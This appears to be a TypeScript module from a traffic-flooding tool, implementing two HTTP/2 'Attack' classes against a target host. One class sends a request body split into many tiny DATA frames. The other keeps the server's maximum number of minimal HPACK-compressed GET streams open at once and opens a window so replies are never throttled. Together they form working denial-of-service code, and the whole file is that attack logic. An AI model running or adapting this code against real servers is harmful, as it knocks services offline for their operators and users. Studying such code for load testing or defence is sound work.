import type { Attack, AttackTarget } from './attacks.ts';

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const types = { data: 0, headers: 1, reset: 3, settings: 4, windowUpdate: 8 } as const;
const endStream = 1;
const endHeaders = 4;
const headBytes = 9;
/** Identifiers in SETTINGS. */
const maxStreamsSetting = 3;
const windowSetting = 4;
const usualWindow = 65_535;
/** Bytes of a body that are made at once. */
const bytesAtOnce = 256;
const streamsAtOnce = 200;
const maxWindow = 0x7fffffff;

/** Places in the static table of HPACK. */
const indexed = { get: 0x82, post: 0x83, root: 0x84, https: 0x87 } as const;
/** First place of the dynamic table: the name of the host, once it was sent. */
const knownHost = 0x80 | 62;
const hostToRemember = 0x41;

/** Reads frames of a server: windows, its limit of streams, and streams that ended. */
class Answers {
  connectionWindow = usualWindow;
  streamWindow = usualWindow;
  maxStreams = streamsAtOnce;
  ended = 0;
  #rest: Buffer = Buffer.alloc(0);

  push(bytes: Buffer): void {
    let rest = this.#rest.length === 0 ? bytes : Buffer.concat([this.#rest, bytes]);
    while (rest.length >= headBytes) {
      const length = rest.readUIntBE(0, 3);
      if (rest.length < headBytes + length) break;
      this.#take(rest[3] ?? 0, rest[4] ?? 0, rest.readUInt32BE(5), rest.subarray(headBytes, headBytes + length));
      rest = rest.subarray(headBytes + length);
    }
    this.#rest = rest;
  }

  #take(type: number, flag: number, stream: number, payload: Buffer): void {
    if (type === types.windowUpdate) {
      if (stream === 0) this.connectionWindow += payload.readUInt32BE(0);
      else this.streamWindow += payload.readUInt32BE(0);
    } else if (type === types.settings && flag === 0) this.#takeSettings(payload);
    else if (type === types.reset) this.ended += 1;
    else if ((type === types.data || type === types.headers) && (flag & endStream) !== 0) this.ended += 1;
  }

  #takeSettings(payload: Buffer): void {
    for (let at = 0; at + 6 <= payload.length; at += 6) {
      const value = payload.readUInt32BE(at + 2);
      if (payload.readUInt16BE(at) === maxStreamsSetting) this.maxStreams = Math.min(streamsAtOnce, value);
      if (payload.readUInt16BE(at) === windowSetting) this.streamWindow += value - usualWindow;
    }
  }
}

/** A body in DATA frames of so many bytes. */
export class HttpTwoData implements Attack {
  readonly #answers = new Answers();
  readonly #frameBytes: number;
  #start: Buffer | undefined;

  constructor({ host }: AttackTarget, frameBytes: number) {
    this.#frameBytes = frameBytes;
    this.#start = Buffer.concat([opening(), headersFrame(1, endHeaders, [indexed.post, ...hostField(host)])]);
  }

  next(): Buffer | undefined {
    if (this.#start !== undefined) {
      const start = this.#start;
      this.#start = undefined;
      return start;
    }
    const window = Math.min(this.#answers.connectionWindow, this.#answers.streamWindow);
    const count = Math.min(Math.ceil(bytesAtOnce / this.#frameBytes), Math.floor(window / this.#frameBytes));
    if (count <= 0) return undefined;
    this.#answers.connectionWindow -= count * this.#frameBytes;
    this.#answers.streamWindow -= count * this.#frameBytes;
    const one = frame(types.data, 0, 1, Buffer.alloc(this.#frameBytes, 'x'));
    return Buffer.concat(Array.from({ length: count }, () => one));
  }

  received(bytes: Buffer): void {
    this.#answers.push(bytes);
  }
}

/** Requests of 13 bytes, as many at once as the server allows. */
export class HttpTwoRequests implements Attack {
  readonly #answers = new Answers();
  readonly #host: string;
  #begun = 0;

  constructor({ host }: AttackTarget) {
    this.#host = host;
  }

  next(): Buffer | undefined {
    const frames: Buffer[] = [];
    while (this.#begun - this.#answers.ended < this.#answers.maxStreams) frames.push(this.#request());
    return frames.length === 0 ? undefined : Buffer.concat(frames);
  }

  received(bytes: Buffer): void {
    this.#answers.push(bytes);
  }

  #request(): Buffer {
    const id = this.#begun++ * 2 + 1;
    const flags = endHeaders | endStream;
    if (id > 1) return headersFrame(id, flags, [indexed.get, indexed.https, indexed.root, knownHost]);
    return Buffer.concat([opening(), headersFrame(id, flags, [indexed.get, ...hostField(this.#host)])]);
  }
}

/** Opens a connection on which answers are never held back. */
function opening(): Buffer {
  const settings = Buffer.from([0, windowSetting, 0x7f, 0xff, 0xff, 0xff]);
  const window = Buffer.alloc(4);
  window.writeUInt32BE(maxWindow - usualWindow);
  return Buffer.concat([preface, frame(types.settings, 0, 0, settings), frame(types.windowUpdate, 0, 0, window)]);
}

function hostField(host: string): readonly number[] {
  return [indexed.https, indexed.root, hostToRemember, host.length, ...Buffer.from(host)];
}

function headersFrame(stream: number, flags: number, block: readonly number[]): Buffer {
  return frame(types.headers, flags, stream, Buffer.from(block));
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(headBytes);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
